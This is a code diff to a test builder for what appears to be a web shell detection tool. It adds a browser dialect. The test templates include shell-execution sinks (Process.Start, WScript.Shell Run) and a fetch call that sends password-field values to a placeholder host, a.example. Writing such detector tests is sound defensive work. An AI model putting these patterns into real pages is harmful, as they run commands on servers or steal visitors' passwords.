@@ -11,6 +11,9 @@ from collections.abc import Sequence
 from typing import NamedTuple
 
 from tests.builders.inert import analyse
+from webshellhunt.analysis.browser.run import run_scripts
+from webshellhunt.analysis.browser.source import piece_of, source_of
+from webshellhunt.client_scripts.script_analysis import Fields
 
 VISITOR = "VISITOR"
 """The value is the visitor's text, or made of it."""
@@ -36,6 +39,8 @@ class Dialect(NamedTuple):
 
 _START = "System.Diagn·ostics.Pro·cess.Start({})"
 _RUN = 'new ActiveX·Object("WScr·ipt.Sh·ell").Run({})'
+_SEND = 'fetch("//a.example/", {})'
+_KEYS = ("k", "expected", "other")
 _SHELL = 'CreateObject("WScr·ipt.Sh·ell").Run'
 DIALECTS = {
     "vbscript": Dialect(
@@ -45,7 +50,9 @@ DIALECTS = {
     "csharp": Dialect("c#", False, 'Req·uest["{}"]', _START, _START.format("({}) == {} ? {} : {}")),
     "jscript": Dialect("jscript", False, 'Req·uest("{}")', _RUN, _RUN.format("({}) === {} ? {} : {}")),
     "jscript_classic": Dialect("jscript", True, 'Req·uest("{}")', _RUN, _RUN.format("({}) === {} ? {} : {}")),
-    "browser": Dialect("jscript", False, 'Req·uest("{}")', _RUN, _RUN.format("({}) === {} ? {} : {}")),
+    "browser": Dialect(
+        "browser", False, 'document.getElementById("{}").value', _SEND, _SEND.format("({}) === {} ? {} : {}")
+    ),
 }
 
 
@@ -64,14 +71,26 @@ def page(dialect: Dialect, code: str, expected: Sequence[str], *, is_twin: bool 
         return dialect.choice.format(found[1], value, *sides)
 
     text = _SINK.sub(judged, code)
-    return text.replace(VISITOR, dialect.request.format("k")).replace("UNSURE", "Server.ScriptTimeout")
+    return text.replace(VISITOR, dialect.request.format("k")).replace(
+        "UNSURE", "window.innerWidth" if dialect.language == "browser" else "Server.ScriptTimeout"
+    )
 
 
 def _arrived(dialect: Dialect, code: str) -> set[str]:
+    if dialect.language == "browser":
+        return _sent(code)
     analysis = analyse(code, dialect.language, is_classic=dialect.is_classic)
     traces = [flow.trace for flow in analysis.flows if flow.trace is not None]
     outside = [trace for trace in traces if trace.kind in ("visitor", "upload", "remote")]
     return {trace.key if trace.key in ("expected", "other") else VISITOR for trace in outside}
+
+
+def _sent(code: str) -> set[str]:
+    """Return what the scripts of a page with three password fields send: the fields are the visitor's texts."""
+    source = source_of([piece_of(code)])
+    traces = [trace for sent in run_scripts(source, Fields({*_KEYS}, asks_password=True)).sent for trace in sent.traces]
+    found = [next((key for key in _KEYS[1:] if key in trace.origin), VISITOR) for trace in traces]
+    return {*found}
 
 
 def is_right(dialect: Dialect, code: str, expected: Sequence[Expected]) -> bool:
